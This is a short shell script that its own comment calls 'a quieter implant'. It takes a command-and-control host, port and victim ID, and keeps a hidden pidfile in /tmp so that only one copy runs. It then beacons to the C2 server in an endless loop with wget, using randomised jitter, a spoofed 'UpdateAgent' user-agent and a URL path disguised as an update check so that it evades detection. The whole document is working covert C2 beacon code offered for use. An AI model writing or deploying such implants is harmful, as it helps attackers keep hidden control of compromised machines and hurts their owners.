# stealth C2_HOST C2_PORT ID [INTERVAL]: a quieter implant. It beacons with
# jitter (INTERVAL..2*INTERVAL seconds) to a path that looks like an update check.
c2=$1; port=$2; id=$3; every=${4:-20}
pidfile=/tmp/.$(basename "$0").pid
if [ -f "$pidfile" ] && kill -0 "$(cat "$pidfile")" 2>/dev/null; then exit 0; fi
echo $$ > "$pidfile"
while :; do
  timeout 3 wget -q -U "Mozilla/5.0 (Windows NT 10.0) UpdateAgent/2.1" -O /dev/null "http://$c2:$port/cdn/v2/update/check?c=$id" 2>/dev/null
  sleep $((every + $(awk 'BEGIN{srand(); print int(rand()*'"$every"')}')))
done
